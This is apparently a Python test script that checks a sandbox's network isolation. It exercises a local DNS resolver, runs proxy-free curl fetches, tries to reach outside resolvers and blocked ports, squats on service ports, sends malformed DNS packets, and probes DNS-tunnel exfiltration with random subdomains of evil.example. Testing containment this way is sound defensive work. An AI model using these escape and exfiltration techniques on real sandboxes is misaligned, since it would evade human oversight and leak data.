# What the names' test does in its room, without a proxy variable; the rest is in inside.py.
import ctypes
import shutil
import struct
import subprocess

for variable in [name for name in os.environ if "proxy" in name.lower()]:
    del os.environ[variable]
SESSION_CA = os.environ["CURL_CA_BUNDLE"]
RESOLVER = ("127.0.0.1", 53)


def ran(name, *argv):
    done = subprocess.run(argv, capture_output=True, text=True, timeout=60)
    say(name, code=done.returncode, out=done.stdout, err=done.stderr[-300:])


def address(host):
    return socket.getaddrinfo(host, 443, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]


def question(host, kind=1, number=7, cls=1):
    labels = b"".join(bytes([len(label)]) + label for label in host.encode().split(b"."))
    return struct.pack(">HHHHHH", number, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, cls)


def code(answer):
    return answer[3] & 15, struct.unpack(">H", answer[6:8])[0]


def attempt(name, act):
    try:
        act()
        say(name, ok=True)
    except OSError as error:
        say(name, ok=False, error=type(error).__name__)


# musl: bound, not connected. Go: connected, not bound; then over a connection.
bound = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
bound.bind(("0.0.0.0", 0))
bound.settimeout(10)


def ask(message):
    bound.sendto(message, RESOLVER)
    return bound.recv(4096)


def ask_by_message(message):
    bound.sendmsg([message], [], 0, RESOLVER)
    return bound.recv(4096)


class Part(ctypes.Structure):
    _fields_ = [("at", ctypes.c_void_p), ("length", ctypes.c_size_t)]


class Message(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("name_length", ctypes.c_uint), ("parts", ctypes.POINTER(Part)),
                ("count", ctypes.c_size_t), ("control", ctypes.c_void_p), ("control_length", ctypes.c_size_t),
                ("flags", ctypes.c_long), ("sent", ctypes.c_ulong)]


def send_many(message, *receivers):
    kept = [ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack(">H", port)
                                        + socket.inet_aton(host) + bytes(8), 16) for host, port in receivers]
    text = ctypes.create_string_buffer(message, len(message))
    part = Part(ctypes.addressof(text), len(message))
    all = (Message * len(kept))(*[Message(ctypes.addressof(one), 16, ctypes.pointer(part), 1) for one in kept])
    sent = ctypes.CDLL(None, use_errno=True).sendmmsg(bound.fileno(), all, len(all), 0)
    if sent < 0:
        raise OSError(ctypes.get_errno(), "sendmmsg")
    return sent


def over_a_connection(*messages):
    with socket.create_connection(RESOLVER, timeout=10) as stream:
        answers = []
        for message in messages:
            stream.sendall(struct.pack(">H", len(message)) + message)
            length = stream.recv(2, socket.MSG_WAITALL)
            answers.append(stream.recv(struct.unpack(">H", length)[0], socket.MSG_WAITALL))
        return answers


known = ask(question("api.rooms.example"))
connected = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
connected.settimeout(10)
connected.connect(RESOLVER)
connected.send(question("API.rooms.example"))
say("messages", one=code(ask_by_message(question("api.rooms.example"))),
    many=send_many(question("api.rooms.example"), RESOLVER, RESOLVER), answers=[len(bound.recv(4096)) > 12 for _ in range(2)])
say("resolvers", bound=code(known), address=socket.inet_ntoa(known[-4:]),
    connected=socket.inet_ntoa(connected.recv(4096)[-4:]),
    stream=[code(one) for one in over_a_connection(question("api.rooms.example"), question("evil.example"))],
    other_types=[code(ask(question("api.rooms.example", kind))) for kind in (28, 16, 65, 255)],
    other_class=code(ask(question("api.rooms.example", 1, 7, 3))),
    libc=[address("api.rooms.example"), address("API.Rooms.Example")])
ran("getent", "getent", "ahostsv4", "web.rooms.example")
ran("busybox", "busybox", "nslookup", "web.rooms.example")

# Fetches without a proxy.
direct = ["curl", "-sS", "--max-time", "30"]
ran("curl through", *direct, "--cacert", "ca.pem", "https://api.rooms.example/hello")
ran("curl request", *direct, "https://web.rooms.example/v1/a")
ran("curl in clear", *direct, "http://plain.rooms.example/files/a")
ran("curl other path", *direct, "-o", "/dev/null", "-w", "%{http_code}", "https://web.rooms.example/other")
ran("curl other host", *direct, "-o", "/dev/null", "-w", "%{http_code}", "-H", "Host: evil.example",
    "http://plain.rooms.example/files/a")
ran("curl other name", *direct, "--cacert", "ca.pem", "--connect-to", "other.rooms.example::api.rooms.example:",
    "https://other.rooms.example/hello")
ran("curl other name of requests", *direct, "-k", "--connect-to", "other.rooms.example::web.rooms.example:",
    "https://other.rooms.example/v1/a")
if shutil.which("node"):
    ran("node", "node", "-e", "fetch('https://web.rooms.example/v1/node').then(a => a.text()).then(console.log)")

# Not allowed.
try:
    address("evil.example")
    say("evil", ok=True)
except socket.gaierror as error:
    say("evil", ok=False, noname=error.errno == socket.EAI_NONAME)
api, plain = address("api.rooms.example"), address("plain.rooms.example")
attempt("other port", lambda: socket.create_connection((api, 22), timeout=5))
attempt("no name's", lambda: socket.create_connection(("127.64.200.1", 443), timeout=5))
attempt("not the supervisor's", lambda: socket.create_connection(("127.0.0.1", 443), timeout=5))
attempt("resolver outside", lambda: bound.sendto(question("evil.example"), ("8.8.8.8", 53)))
attempt("message outside", lambda: bound.sendmsg([question("evil.example")], [], 0, ("8.8.4.4", 53)))
attempt("messages outside", lambda: send_many(question("evil.example"), RESOLVER, ("9.9.9.9", 53)))
bound.settimeout(0.5)
try:
    say("nothing of them", got=len(bound.recv(4096)))
except TimeoutError:
    say("nothing of them", got=0)
bound.settimeout(10)
other = socket.create_connection((api, 80), timeout=5)
other.sendall(b"GET / HTTP/1.1\r\nHost: api.rooms.example\r\n\r\n")
try:
    say("another name's port", got=len(other.recv(100)))
except OSError as error:
    say("another name's port", got=0)


# Squatting.
def bind(kind, where, reuse=False):
    with socket.socket(socket.AF_INET, kind) as squatter:
        if reuse:
            squatter.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            squatter.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        squatter.bind(where)
        if kind == socket.SOCK_STREAM:
            squatter.listen()


PORT = ports["high"]
squatted = []
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    for where in [("127.0.0.1", 53), ("0.0.0.0", 53), (api, 443), ("0.0.0.0", 443), ("127.64.9.9", 80), (api, 53)]:
        for reuse in (False, True):
            try:
                bind(kind, where, reuse)
                squatted.append([str(kind), *where])
            except OSError:
                pass
for where in [(api, PORT), ("0.0.0.0", PORT), ("127.0.0.1", PORT)]:
    try:
        bind(socket.SOCK_STREAM, where, True)
        squatted.append(list(where))
    except OSError:
        pass
say("squatted", by=squatted)

# Broken messages, and the resolver afterwards.
whole = question("api.rooms.example")
looped = whole[:12] + b"\xc0\x0c" + whole[-4:]
bound.settimeout(0.2)
for broken in [whole[:length] for length in range(len(whole))] + [looped, b"\xff" * 600, whole + b"\0" * 9000]:
    bound.sendto(broken, RESOLVER)
try:
    while bound.recv(9000):
        pass
except OSError:
    bound.settimeout(10)
say("after broken", code=code(ask(whole)))
with socket.create_connection(RESOLVER, timeout=10) as stream:
    stream.sendall(b"\xff\xff" + b"\0" * 100)
    try:
        say("long message", got=len(stream.recv(100)))
    except OSError:
        say("long message", got=0)

# Names as a way out: many of them.
say("exfiltration", codes=sorted({code(ask(question(os.urandom(24).hex() + ".evil.example"))) for _ in range(600)}))
say("many names", codes=[code(ask(question(f"n{number}.wild.rooms.example"))) for number in range(1100)][-1],
    kept=socket.inet_ntoa(ask(whole)[-4:]))
